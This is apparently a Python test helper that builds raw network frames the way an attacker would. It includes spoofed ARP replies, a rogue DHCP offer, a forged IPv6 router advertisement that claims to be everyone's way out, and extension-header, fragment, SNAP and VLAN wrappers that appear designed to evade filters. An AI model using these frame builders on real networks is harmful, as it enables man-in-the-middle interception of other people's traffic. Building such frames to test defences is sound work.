"""Frames as an attacker makes them: bytes, with checksums that hold."""

from __future__ import annotations

import ipaddress
import struct

BROADCAST = "ff:ff:ff:ff:ff:ff"
ALL_NODES, ALL_NODES_MAC = "ff02::1", "33:33:00:00:00:01"
ETHER_IPV4, ETHER_ARP, ETHER_IPV6 = 0x0800, 0x0806, 0x86DD
ICMP, TCP, UDP, ICMPV6 = 1, 6, 17, 58
HOP_BY_HOP, ROUTING, FRAGMENT, AUTHENTICATION, DESTINATION = 0, 43, 44, 51, 60
FRAME_MIN = 60


def mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def ip(text: str) -> bytes:
    return ipaddress.ip_address(text).packed


def link_local(own_mac: str) -> str:
    """The address that a machine makes of its MAC."""
    raw = mac(own_mac)
    part = bytes([raw[0] ^ 2, *raw[1:3], 0xFF, 0xFE, *raw[3:]])
    return str(ipaddress.IPv6Address(bytes.fromhex("fe80000000000000") + part))


def ether(source: str, target: str, kind: int, payload: bytes) -> bytes:
    return (mac(target) + mac(source) + struct.pack("!H", kind) + payload).ljust(FRAME_MIN, b"\0")


def checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return int(~total & 0xFFFF)


def ipv4(source: str, target: str, protocol: int, payload: bytes) -> bytes:
    size = 20 + len(payload)
    head = struct.pack("!BBHHHBBH4s4s", 69, 0, size, 1, 0, 64, protocol, 0, ip(source), ip(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def ipv6(source: str, target: str, protocol: int, payload: bytes) -> bytes:
    """With the payload's checksum, which is at byte 6 of UDP and at byte 2 of ICMPv6."""
    at = 6 if protocol == UDP else 2
    over = ip(source) + ip(target) + struct.pack("!II", len(payload), protocol) + payload
    payload = payload[:at] + struct.pack("!H", checksum(over)) + payload[at + 2 :]
    head = struct.pack("!IHBB16s16s", 6 << 28, len(payload), protocol, 255, ip(source), ip(target))
    return head + payload


def udp(source_port: int, target_port: int, payload: bytes) -> bytes:
    return struct.pack("!HHHH", source_port, target_port, 8 + len(payload), 0) + payload


def arp(source: str, target: str, *, reply: bool, sender: tuple[str, str], asked: str) -> bytes:
    """`sender` is the MAC and address that it claims."""
    head = struct.pack("!HHBBH", 1, ETHER_IPV4, 6, 4, 2 if reply else 1)
    body = (
        mac(sender[0]) + ip(sender[1]) + mac(target if reply else "00:00:00:00:00:00") + ip(asked)
    )
    return ether(source, target, ETHER_ARP, head + body)


def option(kind: int, own_mac: str) -> bytes:
    """Of neighbour discovery: a link's address."""
    return struct.pack("!BB", kind, 1) + mac(own_mac)


def icmpv6(kind: int, rest: bytes) -> bytes:
    return struct.pack("!BBH", kind, 0, 0) + rest


def icmp(kind: int, code: int, rest: bytes) -> bytes:
    head = struct.pack("!BBH", kind, code, 0)
    return head[:2] + struct.pack("!H", checksum(head + rest)) + rest


def dhcp_answer(address: str, server: str) -> bytes:
    """An offer, as a server sends it."""
    head = struct.pack("!BBBB4sHH", 2, 1, 6, 0, b"evil", 0, 0x8000)
    body = head + ip("0.0.0.0") + ip(address) + ip(server) + ip("0.0.0.0")
    return body + bytes(16 + 64 + 128) + bytes([99, 130, 83, 99, 53, 1, 2, 255])


def advertisement(own_mac: str, to: str = ALL_NODES, to_mac: str = ALL_NODES_MAC) -> bytes:
    """Everybody's way out leads here."""
    body = struct.pack("!BBHII", 64, 0, 1_800, 0, 0) + option(1, own_mac)
    packet = ipv6(link_local(own_mac), to, ICMPV6, icmpv6(134, body))
    return ether(own_mac, to_mac, ETHER_IPV6, packet)


def options(following: int, *, length: int = 0) -> bytes:
    """A header of IPv6 with options of no meaning, in 8 bytes and 8 times `length`."""
    return bytes([following, length, 1, 4 + 8 * length]) + bytes(4 + 8 * length)


def fragment(following: int, *, offset: int = 0, more: bool = False) -> bytes:
    """A header of IPv6; `offset` in bytes."""
    return struct.pack("!BBHI", following, 0, offset | more, 7)


def behind(frame: bytes, first: int, headers: bytes) -> bytes:
    """The frame of IPv6, with headers before its own; `first` is the kind of the first of them."""
    size = struct.unpack("!H", frame[18:20])[0] + len(headers)
    return frame[:18] + struct.pack("!HB", size, first) + frame[21:54] + headers + frame[54:]


def over_snap(frame: bytes) -> bytes:
    """The frame as IEEE 802.3 has it."""
    head = b"\xaa\xaa\x03\0\0\0" + frame[12:14]
    return frame[:12] + struct.pack("!H", len(head) + len(frame) - 14) + head + frame[14:]


def tagged(frame: bytes, kind: int = 0x8100) -> bytes:
    """With a priority, of no VLAN."""
    return frame[:12] + struct.pack("!HH", kind, 0) + frame[12:]
